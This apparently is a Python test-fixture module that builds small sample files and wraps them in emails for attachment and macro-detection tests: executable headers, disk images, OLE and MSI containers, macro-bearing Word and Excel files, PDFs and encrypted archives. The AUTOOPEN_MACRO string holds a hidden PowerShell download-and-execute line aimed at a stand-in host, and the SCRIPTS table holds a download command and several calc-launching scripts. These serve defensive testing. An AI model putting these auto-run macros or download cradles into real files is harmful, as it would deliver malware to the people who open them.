"""Small, real, harmless samples built in code for the file-type and macro tests.

Nothing here is malware: executables are header stubs that do nothing, the VBA project's
"payload" is text that is never run. Each builder makes a file that real tools (libmagic,
zipfile, olefile, oletools) recognise for what it is, so the tests exercise the same code
paths as real attachments. Also the stdlib-email helper that wraps them in a message.
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from email.utils import make_msgid
from typing import Iterable, Sequence

# --------------------------------------------------------------------------- messages


def message(
    attachments: Iterable[tuple[str, bytes, str]] = (),
    body: str = "Hello,\n\nplease find the file attached.\n\nThanks,\nPat\n",
    subject: str = "Documents for your review",
) -> bytes:
    """A complete MIME message with the given (filename, data, content type) attachments."""
    msg = EmailMessage()
    msg["From"] = "Pat Sender <pat@sender.example>"
    msg["To"] = "frontdesk@practice.example"
    msg["Subject"] = subject
    msg["Message-ID"] = make_msgid(domain="sender.example")
    msg.set_content(body)
    for filename, data, ctype in attachments:
        maintype, _, subtype = ctype.partition("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg.as_bytes()


# --------------------------------------------------------------------------- executables


def pe_exe() -> bytes:
    """A 32-bit Windows PE header (DOS stub, COFF and optional header), no code."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - 64, b"\0")
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x014C, 0, 0x5F000000, 0, 0, 0xE0, 0x0102)
    optional = bytearray(0xE0)
    struct.pack_into("<HBB", optional, 0, 0x010B, 14, 0)  # PE32 magic, linker version
    struct.pack_into("<I", optional, 28, 0x400000)  # image base
    struct.pack_into("<II", optional, 32, 0x1000, 0x200)  # section / file alignment
    struct.pack_into("<H", optional, 68, 2)  # subsystem: Windows GUI
    return bytes(dos) + stub + coff + bytes(optional) + b"\0" * 256


def elf_exe() -> bytes:
    """A 64-bit x86-64 ELF executable header."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return header + b"\0" * 128


def macho_exe() -> bytes:
    """A 64-bit Mach-O executable header (x86-64)."""
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0x00200085) + b"\0" * 4 + b"\0" * 128


def lnk_shortcut() -> bytes:
    """A Windows shortcut (.lnk) header: size 0x4C and the ShellLink CLSID."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    header = struct.pack("<I16sII", 0x4C, clsid, 0x0000009B, 0x20) + b"\0" * (0x4C - 28)
    return header + b"\0" * 64


def iso_image() -> bytes:
    """An ISO 9660 image: 16 empty system sectors, then a primary volume descriptor."""
    pvd = bytearray(2048)
    pvd[0:7] = b"\x01CD001\x01"
    pvd[40:72] = b"INVOICE".ljust(32)
    terminator = bytearray(2048)
    terminator[0:7] = b"\xffCD001\x01"
    return b"\0" * 32768 + bytes(pvd) + bytes(terminator)


def vhd_image() -> bytes:
    """A fixed Virtual PC disk (.vhd): the 512-byte "conectix" footer, here also at the
    start as dynamic disks carry it."""
    footer = bytearray(512)
    footer[0:8] = b"conectix"
    struct.pack_into(">II", footer, 8, 2, 0x00010000)
    struct.pack_into(">Q", footer, 16, 0xFFFFFFFFFFFFFFFF)
    footer[28:32] = b"win "
    struct.pack_into(">I", footer, 60, 2)  # disk type: fixed
    return bytes(footer) + b"\0" * 1024 + bytes(footer)


# --------------------------------------------------------------------------- OLE compound files

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
MSI_CLSID = bytes.fromhex("84100c0000000000c000000000000046")  # {000C1084-0000-0000-C000-000000000046}


class _Node:
    def __init__(self, name: str, data: bytes | None) -> None:
        self.name = name
        self.data = data  # None for a storage
        self.children: dict[str, _Node] = {}
        self.index = 0


def ole_file(streams: dict[str, bytes], root_clsid: bytes = b"\0" * 16) -> bytes:
    """A version-3 Compound File Binary (OLE2) with the given streams ("Storage/Stream"
    paths). Streams under 4096 bytes go to the mini stream, as the format requires."""
    root = _Node("Root Entry", None)
    for path, data in streams.items():
        node = root
        parts = path.split("/")
        for part in parts[:-1]:
            node = node.children.setdefault(part.upper(), _Node(part, None))
        node.children[parts[-1].upper()] = _Node(parts[-1], data)
    order: list[_Node] = []

    def number(node: _Node) -> None:
        node.index = len(order)
        order.append(node)
        for child in node.children.values():
            number(child)

    number(root)
    mini, minifat, big = bytearray(), [], []
    starts: dict[int, int] = {}
    for node in order:
        if node.data is None or len(node.data) >= 4096:
            continue
        count = max(1, -(-len(node.data) // 64)) if node.data else 0
        if not count:
            continue
        starts[node.index] = len(minifat)
        first = len(minifat)
        minifat.extend(range(first + 1, first + count))
        minifat.append(ENDOFCHAIN)
        mini += node.data.ljust(count * 64, b"\0")
    big = [n for n in order if n.data is not None and len(n.data) >= 4096]
    sectors = lambda size: -(-size // 512)  # noqa: E731
    dir_n = sectors(len(order) * 128)
    minifat_n = sectors(len(minifat) * 4)
    mini_n = sectors(len(mini))
    big_n = [sectors(len(n.data or b"")) for n in big]
    others = dir_n + minifat_n + mini_n + sum(big_n)
    fat_n = 1
    while fat_n * 128 < others + fat_n:
        fat_n += 1
    fat = [FATSECT] * fat_n
    chain_starts: list[int] = []
    for count in (dir_n, minifat_n, mini_n, *big_n):
        base = len(fat)
        chain_starts.append(base if count else ENDOFCHAIN)
        fat.extend(range(base + 1, base + count))
        if count:
            fat.append(ENDOFCHAIN)
    fat.extend([FREESECT] * (fat_n * 128 - len(fat)))
    dir_start, minifat_start, mini_start = chain_starts[:3]
    big_starts = dict(zip((n.index for n in big), chain_starts[3:]))

    def tree(nodes: Sequence[_Node]) -> int:
        """Balanced binary tree of siblings, ordered as the format compares names."""
        if not nodes:
            return NOSTREAM
        mid = len(nodes) // 2
        left, right = tree(nodes[:mid]), tree(nodes[mid + 1 :])
        links[nodes[mid].index] = (left, right)
        return nodes[mid].index

    links: dict[int, tuple[int, int]] = {}
    child_of: dict[int, int] = {}
    for node in order:
        if node.data is None:
            kids = sorted(node.children.values(), key=lambda n: (len(n.name), n.name.upper()))
            child_of[node.index] = tree(kids)
    entries = bytearray()
    for node in order:
        name = node.name.encode("utf-16-le") + b"\0\0"
        kind = 5 if node is root else (1 if node.data is None else 2)
        left, right = links.get(node.index, (NOSTREAM, NOSTREAM))
        if node is root:
            start, size = (mini_start if mini else ENDOFCHAIN), len(mini)
        elif node.data is None:
            start, size = 0, 0
        elif node.index in big_starts:
            start, size = big_starts[node.index], len(node.data)
        else:
            start, size = starts.get(node.index, ENDOFCHAIN), len(node.data)
        clsid = root_clsid if node is root else b"\0" * 16
        entries += struct.pack(
            "<64sHBBIII16sIQQIQ", name, len(name), kind, 1, left, right, child_of.get(node.index, NOSTREAM),
            clsid, 0, 0, 0, start, size,
        )
    while len(entries) % 512:
        entries += struct.pack("<64sHBBIII16sIQQIQ", b"", 0, 0, 0, NOSTREAM, NOSTREAM, NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0)
    difat = [i for i in range(fat_n)] + [FREESECT] * (109 - fat_n)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6,
        b"\0" * 6, 0, fat_n, dir_start, 0, 4096, minifat_start if minifat else ENDOFCHAIN, minifat_n, ENDOFCHAIN, 0,
    ) + struct.pack("<109I", *difat)
    body = bytearray(header)
    body += struct.pack(f"<{len(fat)}I", *fat)
    body += entries
    if minifat:
        body += struct.pack(f"<{len(minifat)}I", *minifat).ljust(minifat_n * 512, b"\xff")
    body += bytes(mini).ljust(mini_n * 512, b"\0")
    for node in big:
        data = node.data or b""
        body += data.ljust(sectors(len(data)) * 512, b"\0")
    return bytes(body)


def msi_installer() -> bytes:
    """A Windows Installer package: an OLE file whose root carries the MSI class id."""
    return ole_file({"\u4840\u3b3f\u4577\u446c\u3b6a\u45e4\u4824": b"\0" * 64, "SummaryInformation": b"\0" * 64},
                    root_clsid=MSI_CLSID)


# --------------------------------------------------------------------------- VBA (MS-OVBA)


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compressed container using literal tokens only (valid, not small)."""
    out = bytearray(b"\x01")
    for start in range(0, len(data), 3640):
        piece = data[start : start + 3640]
        chunk = bytearray()
        for i in range(0, len(piece), 8):
            chunk.append(0)  # flag byte: eight literal tokens
            chunk += piece[i : i + 8]
        out += struct.pack("<H", (len(chunk) + 2 - 3) | 0xB000) + chunk
    return bytes(out)


def _record(rid: int, payload: bytes) -> bytes:
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_streams(modules: dict[str, str], prefix: str = "") -> dict[str, bytes]:
    """The streams of a VBA project (PROJECT, VBA/dir, VBA/_VBA_PROJECT, one per module)
    with the given module sources, under ``prefix`` ("" for vbaProject.bin, "Macros/" in a
    Word 97 document)."""
    name = b"VBAProject"
    d = bytearray()
    d += _record(0x01, struct.pack("<I", 1)) + _record(0x02, struct.pack("<I", 0x409))
    d += _record(0x14, struct.pack("<I", 0x409)) + _record(0x03, struct.pack("<H", 1252))
    d += _record(0x04, name)
    d += _record(0x05, b"") + _record(0x40, b"")
    d += _record(0x06, b"") + _record(0x3D, b"")
    d += _record(0x07, struct.pack("<I", 0)) + _record(0x08, struct.pack("<I", 0))
    d += struct.pack("<HIIH", 0x09, 4, 1, 0)
    d += _record(0x0C, b"") + _record(0x3C, b"")
    d += _record(0x0F, struct.pack("<H", len(modules))) + _record(0x13, struct.pack("<H", 0xFFFF))
    streams: dict[str, bytes] = {}
    project_lines = ['ID="{00000000-0000-0000-0000-000000000000}"']
    for module_name, source in modules.items():
        bname = module_name.encode("ascii")
        uname = module_name.encode("utf-16-le")
        d += _record(0x19, bname) + _record(0x47, uname)
        d += _record(0x1A, bname) + _record(0x32, uname)
        d += _record(0x1C, b"") + _record(0x48, b"")
        d += _record(0x31, struct.pack("<I", 0)) + _record(0x1E, struct.pack("<I", 0))
        d += _record(0x2C, struct.pack("<H", 0xFFFF)) + struct.pack("<HI", 0x21, 0)
        d += struct.pack("<HI", 0x2B, 0)
        streams[f"{prefix}VBA/{module_name}"] = ovba_compress(source.replace("\n", "\r\n").encode("cp1252"))
        project_lines.append(f"Module={module_name}")
    d += struct.pack("<HI", 0x10, 0)
    project_lines += ['Name="VBAProject"', 'HelpContextID="0"', ""]
    streams[f"{prefix}VBA/dir"] = ovba_compress(bytes(d))
    streams[f"{prefix}VBA/_VBA_PROJECT"] = b"\xcc\x61\xff\xff\x00\x00\x00"
    streams[f"{prefix}PROJECT"] = "\r\n".join(project_lines).encode("cp1252")
    return streams


AUTOOPEN_MACRO = """Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim s As String
    s = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
    Shell s, vbHide
End Sub
"""

HARMLESS_MACRO = """Attribute VB_Name = "Module1"
Sub FormatTable()
    Selection.Font.Bold = True
End Sub
"""


def word97_with_macro(source: str = AUTOOPEN_MACRO) -> bytes:
    """A Word 97-2003 style OLE document carrying a VBA project in Macros/."""
    fib = struct.pack("<HH", 0xA5EC, 0x00C1) + b"\0" * 508
    streams = {"WordDocument": fib.ljust(4096, b"\0"), "1Table": b"\0" * 64}
    streams.update(vba_streams({"Module1": source}, prefix="Macros/"))
    return ole_file(streams)


def vba_project_bin(source: str = AUTOOPEN_MACRO) -> bytes:
    return ole_file(vba_streams({"Module1": source}))


EXCEL97_CLSID = bytes.fromhex("2008020000000000c000000000000046")  # {00020820-0000-0000-C000-000000000046}


def _biff(rtype: int, body: bytes) -> bytes:
    return struct.pack("<HH", rtype, len(body)) + body


def xls_workbook(macro_sheet: bool = True, auto_open: bool = True, hidden: bool = False) -> bytes:
    """An Excel 97-2003 workbook (BIFF8 globals). With ``macro_sheet`` its sheet list
    holds an Excel 4.0 macro sheet; ``auto_open`` adds the built-in Auto_Open name."""
    bof = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0))
    sheet_name = b"Macro1" if macro_sheet else b"Sheet1"
    sheet = _biff(0x0085, struct.pack("<IBB", 0, 2 if hidden else 0, 1 if macro_sheet else 0)
                  + bytes([len(sheet_name), 0]) + sheet_name)
    names = b""
    if auto_open:  # Lbl record: fBuiltin, one character (0x01 = Auto_Open), formula omitted
        names = _biff(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, 0, 0, 1, 0, 0, 0, 0) + b"\x00\x01")
    workbook = (bof + sheet + names + _biff(0x000A, b"")).ljust(4096, b"\0")
    return ole_file({"Workbook": workbook}, root_clsid=EXCEL97_CLSID)


def xls_with_xlm_macro_sheet() -> bytes:
    return xls_workbook()


# --------------------------------------------------------------------------- documents


def real_pdf(text: str = "Statement of account", objects: Sequence[bytes] = (), catalog_extra: bytes = b"",
             content: bytes | None = None, flate: bool = False) -> bytes:
    """A small valid PDF (one page of text) with a correct cross-reference table.
    ``objects`` are added numbered from 6 and ``catalog_extra`` goes into the document
    catalog (actions, name trees, forms), for samples that need them. ``content``
    replaces the page's content stream (which shows ``text``); ``flate`` stores it
    Flate-compressed, as most real PDFs do (and decompression bombs)."""
    if content is None:
        content = f"BT /F1 18 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    stream_dict = b"<< /Length %d >>"
    if flate:
        content = zlib.compress(content, 9)
        stream_dict = b"<< /Length %d /Filter /FlateDecode >>"
    all_objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream_dict % len(content) + b"\nstream\n" + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(all_objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(all_objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(all_objects) + 1, xref)
    return bytes(out)


def real_png(width: int = 4, height: int = 4) -> bytes:
    """A valid RGB PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\0" + b"\x20\x80\xc0" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def _zip(members: dict[str, bytes]) -> bytes:
    """A deflated zip with fixed timestamps, so a sample is the same bytes on every run."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 5, 9, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buffer.getvalue()


_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)


def real_docx(text: str = "Intake form", macro_source: str | None = None) -> bytes:
    """A Word document (OOXML zip). With ``macro_source`` it is a .docm carrying
    word/vbaProject.bin."""
    main_type = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macro_source
        else "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/></Types>'
    ).encode()
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    members = {"[Content_Types].xml": content_types, "_rels/.rels": _RELS, "word/document.xml": document}
    if macro_source is not None:
        members["word/vbaProject.bin"] = vba_project_bin(macro_source)
        members["word/_rels/document.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            b'Target="vbaProject.bin"/></Relationships>'
        )
    return _zip(members)


def xlsm_with_macro_sheet() -> bytes:
    """An OOXML workbook with an Excel 4.0 macro sheet (xl/macrosheets/sheet1.xml)."""
    content_types = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
        b'<Override PartName="/xl/macrosheets/sheet1.xml" '
        b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    workbook = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheets><sheet name="Macro1" sheetId="1" r:id="rId1" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets>'
        b'<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>'
    )
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'
    )
    return _zip({"[Content_Types].xml": content_types, "xl/workbook.xml": workbook, "xl/macrosheets/sheet1.xml": sheet})


CSV_TEXT = b"date,patient_id,amount\n2026-01-05,1001,120.00\n2026-01-06,1002,85.50\n"

ICS_TEXT = (
    b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Practice//Scheduling//EN\r\nBEGIN:VEVENT\r\n"
    b"UID:appt-1@practice.example\r\nDTSTAMP:20260105T100000Z\r\nDTSTART:20260110T150000Z\r\n"
    b"DTEND:20260110T160000Z\r\nSUMMARY:Staff meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


def zip_of_documents() -> bytes:
    return _zip({"statement.pdf": real_pdf(), "intake.docx": real_docx(), "scan.png": real_png(), "list.csv": CSV_TEXT})


def zip_with(members: dict[str, bytes]) -> bytes:
    return _zip(members)


# --------------------------------------------------------------------------- encrypted archives


class _ZipCrypto:
    """Traditional PKWARE encryption (APPNOTE 6.1), which zipfile can read but not write."""

    def __init__(self, password: bytes) -> None:
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    @staticmethod
    def _crc(crc: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), crc ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    def _update(self, byte: int) -> None:
        k0, k1, k2 = self.keys
        k0 = self._crc(k0, byte)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = self._crc(k2, k1 >> 24)
        self.keys = [k0, k1, k2]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for byte in data:
            temp = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def encrypted_zip(members: dict[str, bytes], password: bytes = b"8842") -> bytes:
    """A password-protected zip (ZipCrypto, stored): readable with zipfile and the
    password, opaque without it."""
    local, central = bytearray(), bytearray()
    for name, data in members.items():
        crc = zlib.crc32(data) & 0xFFFFFFFF
        cipher = _ZipCrypto(password)
        payload = cipher.encrypt(b"\x00" * 11 + bytes([crc >> 24])) + cipher.encrypt(data)
        bname = name.encode()
        offset = len(local)
        fields = struct.pack("<HHHHHIII", 20, 0x0001, 0, 0, 0x21, crc, len(payload), len(data))
        local += b"PK\x03\x04" + fields + struct.pack("<HH", len(bname), 0) + bname + payload
        central += (
            b"PK\x01\x02" + struct.pack("<H", 20) + fields
            + struct.pack("<HHHHHII", len(bname), 0, 0, 0, 0, 0x20, offset) + bname
        )
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + end)


def seven_zip(encrypted_header: bool = False) -> bytes:
    """A 7-Zip signature header; ``encrypted_header`` adds the AES-256 coder id that an
    encrypted archive's header names."""
    tail = b"\x17\x06\xf1\x07\x01" if encrypted_header else b"\x01\x04\x06\x00"
    next_header = tail + b"\0" * 8
    start = struct.pack("<QQI", 32, len(next_header), zlib.crc32(next_header) & 0xFFFFFFFF)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start) & 0xFFFFFFFF) + start + b"\0" * 32 + next_header


def rar_archive(encrypted_headers: bool = False) -> bytes:
    """A RAR 4 marker and main archive header; ``encrypted_headers`` sets the flag that
    says the file list itself is password protected."""
    flags = 0x0080 if encrypted_headers else 0x0000
    body = struct.pack("<BHH", 0x73, flags, 13) + b"\0" * 6
    head_crc = zlib.crc32(body) & 0xFFFF
    return b"Rar!\x1a\x07\x00" + struct.pack("<H", head_crc) + body + b"\0" * 64


SCRIPTS: dict[str, bytes] = {
    "payment.js": b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c calc");\n',
    "invoice.vbs": b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n',
    "update.hta": b"<html><head><HTA:APPLICATION ID=\"x\"/></head><body><script>x=1</script></body></html>\n",
    "setup.ps1": b"Invoke-WebRequest -Uri http://example.invalid/a -OutFile a.exe\n",
    "run.bat": b"@echo off\r\nstart calc.exe\r\n",
    "job.wsf": b'<job><script language="JScript">WScript.Echo("x");</script></job>\n',
}


def encrypted_docx() -> bytes:
    """A password-to-open Word 2007+ document: Office wraps the encrypted zip in an OLE file
    with EncryptionInfo and EncryptedPackage streams (contents here are stand-ins)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption xmlns='http://schemas.microsoft.com/office/2006/encryption'/>"
    package = struct.pack("<Q", 5000) + bytes((i * 151 + 7) % 256 for i in range(5008))
    return ole_file({"EncryptionInfo": info, "EncryptedPackage": package, "\x06DataSpaces/Version": b"\0" * 76})
